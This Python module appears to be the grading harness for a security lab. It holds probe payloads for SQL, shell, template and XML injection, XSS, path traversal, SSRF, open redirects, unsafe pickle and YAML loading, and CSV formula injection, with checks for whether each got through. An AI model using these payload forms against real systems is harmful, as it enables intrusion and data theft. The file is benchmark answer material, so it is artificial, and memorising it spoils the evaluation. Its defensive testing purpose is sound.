"""What proves a sink of the lab: harmful values, and what is seen where one of them got through.

Written with the lab's code open, for the labels alone; no scanner that they judge may read it.
"""

import base64
import csv
import hashlib
import io
import json
import random
import re
import sqlite3
import sys
from collections.abc import Callable, Mapping
from contextlib import closing
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

MARKER = "LAB-MARKER-5d1c"
_AWAY = "away.invalid"


@dataclass(frozen=True, slots=True)
class Ground:
    """Where a proof looks: a service, the scratch folder, a listener on loopback, the paths it was asked."""

    service: str
    scratch: Path
    port: int
    asked: set[str]

    def marked(self, token: str) -> bool:
        """Whether the canary file has the token."""
        canary = self.scratch / "canary"
        return canary.exists() and token in canary.read_text().split()

    def logged(self, line: str) -> bool:
        """Whether the service's log has this line."""
        return line in (self.scratch / self.service / "service.log").read_text().splitlines()

    def owned(self, owner: str) -> bool:
        """Whether the service's table of visits has a row of this owner."""
        with closing(sqlite3.connect(self.scratch / self.service / "shop.db")) as link:
            return bool(link.execute("SELECT 1 FROM visits WHERE owner = ?", (owner,)).fetchone())

    def passwords(self) -> tuple[str, ...]:
        """What the service, which runs in this process, keeps of passwords."""
        return tuple(sys.modules[f"{self.service}.parts"].PASSWORDS.values())


@dataclass(frozen=True, slots=True)
class Answer:
    """What came back: status, kind, text and the Location header."""

    status: int
    kind: str
    text: str
    location: str

    def told(self, name: str) -> object:
        """One member of an answer in JSON, None if it is none."""
        try:
            return json.loads(self.text)[name]
        except (ValueError, KeyError, TypeError, IndexError):
            return None


@dataclass(frozen=True, slots=True)
class Probe:
    """`values(token, ground)` to send, and `seen(answer, token, ground)` where one of them did harm."""

    values: Callable[[str, Ground], tuple[str, ...]]
    seen: Callable[[Answer, str, Ground], bool]


def _pickled(token: str, ground: Ground) -> tuple[str, ...]:
    """Pickles that call the lab's own harmless `note`, by five ways to name and call it."""
    home, named = f"{ground.service}.parts", f"c{ground.service}.parts\nnote\n"
    streams = (
        f"{named}(S'{token}'\ntR.", f"(S'{token}'\ni{home}\nnote\n.", f"({named}S'{token}'\no.",
        f"\x80\x04\x8c{chr(len(home))}{home}\x8c\x04note\x93\x8c{chr(len(token))}{token}\x85R.",
        f"\x80\x02{named}U{chr(len(token))}{token}\x85\x81.",
    )  # fmt: skip
    return tuple(base64.urlsafe_b64encode(one.encode("latin-1")).decode().rstrip("=") for one in streams)


def _tagged(token: str, ground: Ground) -> tuple[str, ...]:
    """YAML that calls `note`, by its short, its new, its full and a shifted tag."""
    call = f'{ground.service}.parts.note ["{token}"]'
    full = f'!<tag:yaml.org,2002:python/object/apply:{ground.service}.parts.note> ["{token}"]'
    shifted = f"%TAG !e! tag:yaml.org,2002:python/object/\n---\n!e!apply:{call}"
    return f"!!python/object/apply:{call}", f"!!python/object/new:{call}", full, shifted


def _entities(token: str, ground: Ground) -> tuple[str, ...]:
    """External entities, then one that grows: 256 times its text, from a document of 200 characters."""
    places = (f"file://{ground.scratch}/vault/marker.txt", f"http://127.0.0.1:{ground.port}/{token}")
    outside = tuple(f'<!DOCTYPE a [<!ENTITY e SYSTEM "{place}">]><a>&e;</a>' for place in places)
    grown = f'<!ENTITY e "{token}"><!ENTITY f "{"&e;" * 16}"><!ENTITY g "{"&f;" * 16}">'
    return (*outside, f"<!DOCTYPE a [{grown}]><a>&g;</a>", f'<!DOCTYPE a SYSTEM "{places[1]}"><a/>')


def _addresses(token: str, ground: Ground) -> tuple[str, ...]:
    """The listener's address with the partner's name in it, and files."""
    here, partner = f"127.0.0.1:{ground.port}/{token}", "partner.invalid"
    return (
        f"http://{here}?{partner}", f"http://{partner}@{here}", f"http://{here}#{partner}",
        f"https://{partner}@{here}", f"http://{here}\\@{partner}/", f" http://{here}/https://{partner}/",
        f"file://{partner}{ground.scratch}/vault/marker.txt", f"file://{ground.scratch}/vault/marker.txt",
    )  # fmt: skip


class _Handlers(HTMLParser):
    """Whether a page has an attribute that runs a script, or a script."""

    found = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found |= tag == "script" or any(name.startswith("on") for name, _ in attrs)


def _runs(answer: Answer, token: str, ground: Ground) -> bool:
    page = _Handlers()
    page.feed(answer.text)
    return answer.kind == "text/html" and page.found


def _leads_away(answer: Answer, token: str, ground: Ground) -> bool:
    """Whether a browser would leave, which takes backslashes for slashes and skips breaks and tabs."""
    place = re.sub(r"[\t\r\n]", "", answer.location.strip()).replace("\\", "/").lower()
    return bool(re.match(rf"(https?:)?/{{2,}}{_AWAY}|https?:/*{_AWAY}|javascript:", place))


def _computes(answer: Answer, token: str, ground: Ground) -> bool:
    """Whether a cell starts as a formula, whatever the sheet takes for a separator."""
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(answer.text, newline=""), delimiter=separator):
            if any(token in cell and cell.lstrip(" ")[0] in _FORMULA for cell in row):
                return answer.kind == "text/csv"
    return False


def _set_more(answer: Answer, token: str, ground: Ground) -> bool:
    """Whether staff was set, or an attribute that an entry does not have."""
    return answer.told("staff") == "on" or answer.told(token) is not None


def _kept_weakly(answer: Answer, token: str, ground: Ground) -> bool:
    """Whether a stored password holds a piece of eight digits of a fast hash of it."""
    fast = [hashlib.new(name, token.encode()).hexdigest() for name in ("md5", "sha1", "sha256")]
    pieces = {text[at : at + 8] for text in fast for at in range(len(text) - 7)}
    return any(piece in one for one in ground.passwords() for piece in pieces)


def _has_marker(answer: Answer, token: str, ground: Ground) -> bool:
    return MARKER in answer.text


def _is_marked(answer: Answer, token: str, ground: Ground) -> bool:
    return ground.marked(token)


def _forms(*forms: str) -> Callable[[str, Ground], tuple[str, ...]]:
    """Values with the token in the place of TOKEN and the scratch folder in that of SCRATCH."""
    return lambda t, g: tuple(one.replace("TOKEN", t).replace("SCRATCH", str(g.scratch)) for one in forms)


def _evaluated(answer: Answer, token: str, ground: Ground) -> bool:
    told = f"lablab{token}" in answer.text or "<class 'object'>" in answer.text or " at 0x" in answer.text
    return told or ground.marked(token)


_SHELL = Probe(
    _forms(
        "x; echo la''bTOKEN", "x; echo TOKEN >> $LAB_CANARY", "x && echo la''bTOKEN",
        "x && echo TOKEN >> $LAB_CANARY", "x\necho la''bTOKEN", "x $(echo la''bTOKEN)", "x `echo la''bTOKEN`",
        "x' ; echo la''bTOKEN ; '", "--version",
    ),
    lambda a, t, g: f"lab{t}" in a.text.split() or "coreutils" in a.text or g.marked(t),
)  # fmt: skip
_MARKUP = Probe(
    _forms(
        "<svg onload=xTOKEN>", "<script>xTOKEN</script>", "</p><img src=x onerror='xTOKEN'>", '"onfocus="x'
    ),
    _runs,
)
_PATHS = (
    "../../PLACE", "....//....//PLACE", "SCRATCH/PLACE", "sub/../../../PLACE", "..\\..\\PLACE",
    "%2e%2e/%2e%2e/PLACE",
)  # fmt: skip
_CODE = ("'lab' * 2 + 'TOKEN'", "note('TOKEN')", "().__class__.__mro__", "__builtins__", "note", "str.join")
_FORMULA = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
_BREAKS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"

PROBES: Mapping[str, Probe] = {
    "sqlite_select": Probe(
        _forms(*(f"x{end} UNION SELECT code, 1 FROM vault --" for end in ("'", "\\'", "''", '"', "\0'"))),
        _has_marker,
    ),
    "sqlite_order": Probe(
        _forms(
            f"(CASE WHEN (SELECT code FROM vault) = '{MARKER}' THEN abs(price - 30) ELSE name END)",
            "abs(price - 30)",
            "1 + abs(price - 30)",
            "/**/abs(price-30)",
        ),
        lambda a, t, g: a.text.startswith('[["lamp"'),
    ),
    "sqlite_insert": Probe(
        _forms("x', 'TOKEN') --", "x\\', 'TOKEN') --", "x'', 'TOKEN') --"), lambda a, t, g: g.owned(t)
    ),
    "shell_run": _SHELL,
    "os_popen": _SHELL,
    "path_read": Probe(_forms(*(one.replace("PLACE", "vault/marker.txt") for one in _PATHS)), _has_marker),
    "path_write": Probe(
        _forms(*(one.replace("PLACE", "made/TOKEN") for one in _PATHS)),
        lambda a, t, g: (g.scratch / "made" / t).exists(),
    ),
    "html_text": _MARKUP,
    "html_field": Probe(
        _forms('"onfocus="xTOKEN', '" onfocus=xTOKEN x="', "'onfocus='xTOKEN", '"><svg onload=xTOKEN>'), _runs
    ),
    "jinja_page": _MARKUP,
    "eval_sum": Probe(_forms(*_CODE), _evaluated),
    "exec_rule": Probe(_forms(*(f"result = {one}" for one in _CODE[:1]), *_CODE[1:]), _evaluated),
    "pickle_loads": Probe(_pickled, _is_marked),
    "yaml_load": Probe(_tagged, _is_marked),
    "url_open": Probe(_addresses, lambda a, t, g: t in g.asked or MARKER in a.text),
    "redirect_to": Probe(
        _forms(
            f"https://{_AWAY}/TOKEN",
            f"//{_AWAY}/TOKEN",
            f"/\\{_AWAY}",
            f"\\\\{_AWAY}",
            f"///{_AWAY}",
            f"/\t/{_AWAY}",
            f"https:{_AWAY}",
            "javascript:TOKEN",
            f"/\n/{_AWAY}",
        ),
        _leads_away,
    ),
    "sax_parse": Probe(
        _entities, lambda a, t, g: MARKER in a.text or t in g.asked or a.text.count(t or MARKER) > 99
    ),
    "jinja_source": Probe(
        _forms("{{ 191 * 7 }}TOKEN", "{% if 1 %}1337{% endif %}TOKEN", "{%- print(191 * 7) -%}TOKEN"),
        lambda a, t, g: f"1337{t}" in a.text,
    ),
    "format_text": Probe(
        _forms("{item.note}TOKEN", "{item.__class__}TOKEN", "{entry.__class__}TOKEN", "{item!r}TOKEN"),
        lambda a, t, g: MARKER + t in a.text or f">{t}" in a.text,
    ),
    "etree_find": Probe(
        _forms("ann']/../staff[note!='", 'ann"]/../staff[note!="', "ann&#39;]/../staff[note!=&#39;"),
        _has_marker,
    ),
    "weak_hash": Probe(_forms("TOKEN"), _kept_weakly),
    "random_token": Probe(
        _forms("TOKEN"), lambda a, t, g: a.told("ticket") == f"{random.Random(t).getrandbits(64):016x}"
    ),
    "log_line": Probe(
        _forms(*(f"x{one}INFO paid TOKEN" for one in _BREAKS)), lambda a, t, g: g.logged(f"INFO paid {t}")
    ),
    "csv_cell": Probe(
        _forms(
            *(f"{sign}1+TOKEN" for sign in _FORMULA), *(f"x{end}=1+TOKEN" for end in (";", "\t", "\n", '",'))
        ),
        _computes,
    ),
    "set_attribute": Probe(_forms("staff", "TOKEN", "__class__", "__dict__"), _set_more),
    "call_by_name": Probe(
        _forms("close_day", "__str__", "__dir__", "__reduce__"),
        lambda a, t, g: MARKER in a.text or " at 0x" in a.text or "__class__" in a.text,
    ),
    "record_read": Probe(_forms("r2"), _has_marker),
}

#: Values that mean no harm; no probe sees any where these are sent.
ORDINARY = (
    "lamp", "ann", "ben", "price", "guide", "hours", "letter", "r0", "7", "/health", "a b", "O'Brien",
    "5 < 7", "<a>tea</a>", "a: 1", "half", "entry", "data:,tea", "1;2",
)  # fmt: skip

#: How a value must be written to pass a flow; every case is tried with all of them, its own first.
WRITTEN: Mapping[str, Callable[[str], str]] = {
    "direct": lambda text: text,
    "swapped_case": str.swapcase,
    "base64": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    "percent_decoded": lambda text: re.sub(
        r"\W", lambda found: "".join(f"%{byte:02X}" for byte in found[0].encode()), text
    ),
    "prefix_gate": lambda text: f"ref-{text}",
    "checked_gate": lambda text: f"{text}.{len(text)}",
    "partition": lambda text: f"1:{text}",
}
